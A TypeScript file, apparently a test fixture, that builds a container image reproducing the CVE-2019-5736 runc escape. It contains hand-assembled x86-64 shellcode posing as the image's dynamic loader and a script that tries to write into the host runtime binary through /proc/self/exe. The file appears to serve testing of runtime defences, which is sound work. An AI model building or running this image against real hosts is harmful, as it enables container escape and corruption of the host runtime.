// An image whose dynamic loader is an attacker's: a container that runs /proc/self/exe has the container's runtime started in itself
// with that loader. It keeps the runtime's file open and hands it to a script of the image. Source: CVE-2019-5736. For x86-64.
import type { TarEntry } from '../../proto/lib/tar.ts'

const headerBytes = 64 + 56
const texts = { exe: '/proc/self/exe\0', shell: '/bin/sh\0', script: '/evil/run\0' } as const
type Name = keyof typeof texts

/** fd 3 = open(exe); execve(shell, [shell, script], []); exit(99). */
function machineCode(): Buffer {
  const code: number[] = []
  const addresses: { readonly at: number; readonly of: Name }[] = []
  const address = (of: Name): void => {
    addresses.push({ at: code.length, of })
    code.push(0, 0, 0, 0)
  }
  code.push(0x48, 0x8d, 0x3d) // lea rdi
  address('exe')
  code.push(0x31, 0xf6, 0x31, 0xd2, 0xb8, 2, 0, 0, 0, 0x0f, 0x05) // open
  code.push(0x48, 0x8d, 0x3d) // lea rdi
  address('shell')
  code.push(0x6a, 0x00, 0x48, 0x8d, 0x05) // push 0; lea rax
  address('script')
  code.push(0x50, 0x57, 0x48, 0x89, 0xe6) // push rax, rdi; mov rsi, rsp
  code.push(0x31, 0xd2, 0xb8, 59, 0, 0, 0, 0x0f, 0x05) // execve
  code.push(0xbf, 99, 0, 0, 0, 0xb8, 60, 0, 0, 0, 0x0f, 0x05) // exit
  const bytes = Buffer.from(code)
  const places = new Map<Name, number>()
  let end = bytes.length
  for (const name of ['exe', 'shell', 'script'] as const) {
    places.set(name, end)
    end += texts[name].length
  }
  for (const { at, of } of addresses) bytes.writeInt32LE((places.get(of) ?? 0) - (at + 4), at)
  return Buffer.concat([bytes, Buffer.from(texts.exe + texts.shell + texts.script)])
}

/** A position-independent ELF of one readable and executable segment. */
function loader(): Buffer {
  const body = machineCode()
  const size = BigInt(headerBytes + body.length)
  const header = Buffer.alloc(headerBytes)
  header.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1])
  const small: readonly (readonly [number, number])[] = [
    ...([
      [16, 3],
      [18, 62],
      [20, 1],
    ] as const), // shared object, x86-64, version 1
    ...([
      [52, 64],
      [54, 56],
      [56, 1],
    ] as const), // sizes of headers, one segment
    ...([
      [64, 1],
      [68, 5],
    ] as const), // loaded, readable and executable
  ]
  for (const [at, value] of small) header.writeUInt16LE(value, at)
  header.writeBigUInt64LE(BigInt(headerBytes), 24)
  header.writeBigUInt64LE(64n, 32)
  header.writeBigUInt64LE(size, 96)
  header.writeBigUInt64LE(size, 104)
  header.writeBigUInt64LE(4096n, 112)
  return Buffer.concat([header, body])
}

const script = `echo "fd 3: $(ls -l /proc/self/fd/3)"
i=0
while [ $i -lt 500 ]; do
  i=$((i + 1))
  if (echo evil >> /proc/self/fd/3) 2>/tmp/err; then echo WROTE; exit 0; fi
  # While another process runs the file nobody can write it: try again.
  grep -q busy /tmp/err || break
  sleep 0.01
done
cat /tmp/err
`

/** Files of such an image; its entrypoint is /evil/sh. */
export function hijackFiles(): readonly TarEntry[] {
  return [
    { kind: 'directory', path: 'evil', mode: 0o755 },
    { kind: 'symlink', path: 'evil/sh', target: '/proc/self/exe' },
    { kind: 'file', path: 'evil/run', mode: 0o755, data: Buffer.from(script) },
    { kind: 'directory', path: 'lib64', mode: 0o755 },
    { kind: 'file', path: 'lib64/ld-linux-x86-64.so.2', mode: 0o755, data: loader() },
  ]
}
